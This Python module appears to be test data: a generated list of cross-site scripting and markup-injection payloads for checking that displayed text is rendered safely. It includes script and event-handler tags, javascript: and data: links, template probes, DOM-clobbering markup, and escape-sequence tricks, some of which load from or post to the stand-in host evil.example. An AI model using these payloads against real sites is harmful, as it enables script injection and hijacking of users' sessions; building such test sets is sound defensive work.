# ruff: noqa: E501
"""Hostile texts of our own: each tries to run script, to post, to frame or to name something when it is shown."""

from __future__ import annotations

_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onwheel")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "marquee",
    "math",
    "object data=x",
    "select autofocus",
)
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "blob:http://x/1", "filesystem:http://x/1",
    "javascript://%0aalert(1)", "//evil.example/x", "\\\\evil.example\\x",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} {event}=alert(1)>" for tag in _TAGS for event in _EVENTS[:6]),
    *(f"[link]({scheme})" for scheme in _SCHEMES),
    *(f"![image]({scheme})" for scheme in _SCHEMES[:6]),
    *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</pre></li></ol><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onload=alert(1) `",
    "{{7*7}}{{config}}", "{% import os %}", "${alert(1)}", "#{alert(1)}", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<form action=//evil.example><button>x</button></form>", "<input name=csrf value=x form=f>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<embed src=//evil.example/x.swf>", "<template><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><img src=x onerror=alert(1)></xmp>", "<p id=find>clobber</p>", "<h1 id=main name=body>clobber</h1>",
    "<img name=getElementById>", "<form id=test><input name=attributes></form>", "<div style='position:fixed;inset:0'>cover</div>", "<p class='sr btn go'>dress up</p>",
    "```html\n<script>alert(1)</script>\n```", "```\"><img src=x onerror=alert(1)>\nx\n```", "`<script>alert(1)</script>`",
    "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "<http://x/\"onmouseover=alert(1)>", "![x](x \"onerror=alert(1)\")", "[a](<javascript:alert(1)>)",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "> <script>alert(1)</script>", "- <svg/onload=alert(1)>", "# <img src=x onerror=alert(1)>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07", "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m", "\x1b[38;2;1;2;3m<script>alert(1)</script>", "a\rb<script>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<", "＜script＞alert(1)＜/script＞", "<scr\x00ipt>alert(1)</scr\x00ipt>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip
